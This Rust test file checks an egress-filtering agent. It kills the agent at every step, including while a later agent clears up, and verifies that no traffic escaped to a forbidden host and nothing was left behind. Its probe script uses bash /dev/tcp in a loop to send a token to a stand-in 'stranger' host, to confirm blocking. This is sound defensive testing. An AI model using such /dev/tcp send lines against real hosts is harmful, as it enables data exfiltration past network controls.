//! Whatever breaks, nothing opens, the log says why, and the next start finds its way.

use std::{thread, time::Duration};

use anyhow::{Context, Result, ensure};
use egress_tests::{
    agent::{Agent, Report, policy},
    leftovers::Leftovers,
    token,
    world::World,
    zone,
};

const SWITCH: &str = include_str!("../../egress-agent/src/host/switch.rs");
/// Steps that the launcher takes: the agent outlives those, and clears up by itself.
const LAUNCHER: [&str; 8] = [
    "Joining",
    "Joined",
    "Separated",
    "Mounted",
    "Dropped",
    "Probed",
    "Closed",
    "Filtered",
];
/// After these the agent took the launcher for the connector.
const LET_GO: [&str; 2] = ["Closed", "Filtered"];
/// What is left after these is nothing.
const TRACELESS: [&str; 3] = ["HostChecked", "LeftoversEnded", "Unlocked"];
/// From here on the connector has run.
const RAN: &str = "ConnectorEnded";
/// Steps of every end, that of what a dead agent left included.
const END: &str = "EndBegun";
const MOMENT: Duration = Duration::from_millis(200);

/// Every step that `switch.rs` knows, in their order.
fn steps() -> Result<Vec<&'static str>> {
    let (_, rest) = SWITCH.split_once("pub enum Step {").context("no steps")?;
    let (list, _) = rest.split_once("\n}").context("no end")?;
    let words = list
        .lines()
        .map(str::trim)
        .filter(|line| !line.starts_with("//"));
    Ok(words
        .filter(|line| !line.is_empty())
        .map(|line| line.trim_end_matches(','))
        .collect())
}

/// A connector that tries the stranger for as long as it lives, and asks the permitted address.
struct Tries {
    permitted: String,
    forbidden: String,
    script: String,
}

impl Tries {
    fn new() -> Self {
        let (permitted, forbidden) = (token::new(), token::new());
        let script = format!(
            "try() {{ exec 3<>/dev/tcp/{stranger}/9999 && echo {forbidden} >&3; }}\n\
             (while :; do (try); sleep 0.02; done) >/dev/null 2>&1 &\n\
             (exec 3<>/dev/tcp/{allowed}/9999; echo {permitted} >&3; read -r -t 9 line <&3; echo $line)\n\
             (try) 2>/dev/null || echo stranger refused\n",
            stranger = zone::STRANGER,
            allowed = zone::ALLOWED
        );
        Self {
            permitted,
            forbidden,
            script,
        }
    }

    fn run(&self, agent: Agent<'_>) -> Result<Report> {
        agent.run(&["/bin/bash", "-c", &self.script])
    }

    /// Errors where the stranger heard anything until now.
    fn held(&self, world: &World) -> Result<()> {
        world.fence()?;
        let heard = world.sightings(&self.forbidden)?;
        ensure!(heard.is_empty(), "the stranger heard {heard:?}");
        let packets = world.packets(zone::STRANGER)?;
        ensure!(packets.is_empty(), "the stranger got {packets:?}");
        Ok(())
    }
}

fn rules() -> String {
    policy("faults", &[&format!("{}:9999", zone::ALLOWED)])
}

/// The agent of test builds, with a fault in it.
fn faulty<'w>(world: &'w World, variable: &str, value: &str) -> Agent<'w> {
    world
        .agent(rules())
        .without("")
        .env(&format!("EGRESS_TEST_{variable}"), value)
}

/// A start that finds what another left, and its end.
fn recovers(world: &World, before: &Leftovers, left: bool) -> Result<()> {
    let report = world.agent(policy("next", &[])).run(&["true"])?;
    ensure!(report.outcome.ok(), "{report}");
    if left {
        let says = |event: &&egress_tests::event::Event| {
            event.kind == "warning" && event.line.contains("which a dead agent had left")
        };
        ensure!(
            report.events.iter().any(|event| says(&event)),
            "it should say what it ended: {report}"
        );
    }
    before.ensure_nothing_new()?;
    let processes = world.processes()?;
    ensure!(processes.is_empty(), "left: {processes:?}");
    Ok(())
}

#[test]
fn the_agent_is_killed_at_every_step() -> Result<()> {
    let world = World::alone()?;
    let before = Leftovers::now()?;
    let steps = steps()?;
    let ran = steps.iter().position(|step| *step == RAN).context(RAN)?;
    for (number, step) in steps.iter().enumerate() {
        let tries = Tries::new();
        let report = tries.run(faulty(&world, "KILL_AT", step))?;
        let at = || format!("killed at {step}: {report}");
        let of_launcher = LAUNCHER.contains(step);
        let expected = if of_launcher && !LET_GO.contains(step) {
            125
        } else {
            137
        };
        ensure!(report.code() == expected, "{}", at());
        thread::sleep(MOMENT);
        tries.held(&world).with_context(at)?;
        if of_launcher {
            before.ensure_nothing_new().with_context(at)?;
            continue;
        }
        let left = before.anything_new()?;
        ensure!(left != TRACELESS.contains(step), "{}", at());
        if number >= ran {
            let asked = format!("ok {}\nstranger refused", tries.permitted);
            ensure!(report.text().contains(&asked), "{}", at());
        }
        recovers(&world, &before, left).with_context(at)?;
        tries.held(&world).with_context(at)?;
    }
    Ok(())
}

/// So is the one that clears up after it.
#[test]
fn the_next_agent_is_killed_while_it_clears_up() -> Result<()> {
    let world = World::alone()?;
    let before = Leftovers::now()?;
    let steps = steps()?;
    let end = steps.iter().position(|step| *step == END).context(END)?;
    for step in &steps[end..] {
        let tries = Tries::new();
        let first = tries.run(faulty(&world, "KILL_AT", "ConnectorEnded"))?;
        ensure!(first.code() == 137, "{first}");
        let second = faulty(&world, "KILL_AT", step).run(&["true"])?;
        ensure!(second.code() == 137, "killed at {step}: {second}");
        thread::sleep(MOMENT);
        tries
            .held(&world)
            .with_context(|| format!("killed at {step}"))?;
        recovers(&world, &before, *step != "Unlocked").with_context(|| (*step).to_owned())?;
        tries.held(&world)?;
    }
    Ok(())
}
